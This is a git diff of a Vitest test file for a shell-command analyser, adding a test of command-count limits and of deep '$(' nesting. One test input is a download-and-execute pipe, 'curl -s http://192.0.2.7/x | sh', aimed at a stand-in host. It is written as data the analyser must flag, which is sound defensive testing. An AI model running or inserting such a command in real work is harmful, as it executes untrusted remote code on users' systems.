@@ -1,6 +1,6 @@
 import { expect, test } from "vitest";
 import { MAX_STEPS } from "../../../src/read/shell/run/limits.ts";
-import { MAX_DEPTH, MAX_OPEN_QUOTES } from "../../../src/read/shell/syntax/cursor.ts";
+import { MAX_COMMANDS, MAX_DEPTH, MAX_OPEN_QUOTES } from "../../../src/read/shell/syntax/cursor.ts";
 import { tellShell, tellSnippet } from "./read.ts";
 
 const MEGABYTE = 1_048_576;
@@ -125,4 +125,13 @@ test("names of the language's own objects are plain names", () => {
     "constructor; __proto__ x; toString; python3 constructor.py; hasOwnProperty=1; $hasOwnProperty",
   );
   expect(spawned).toEqual(["constructor", "__proto__ x", "toString", "python3 constructor.py"]);
+});
+
+test("commands past the limit are a gap, at the limit they are taken in", () => {
+  const gaps = (count: number): readonly string[] => tellShell(":\n".repeat(count)).gaps.map(({ code }) => code);
+  expect(gaps(MAX_COMMANDS)).toEqual(["too-many"]); // more than are followed
+  expect(gaps(MAX_COMMANDS + 1)).toEqual(["unparsable", "too-many"]);
+  const { gaps: open, operations } = tellShell(`curl -s http://192.0.2.7/x | sh\n${"$(".repeat(500_000)}`);
+  expect(open.every(({ blocking }) => blocking)).toBe(true);
+  expect(operations.join("\n")).toContain("192.0.2.7");
 });
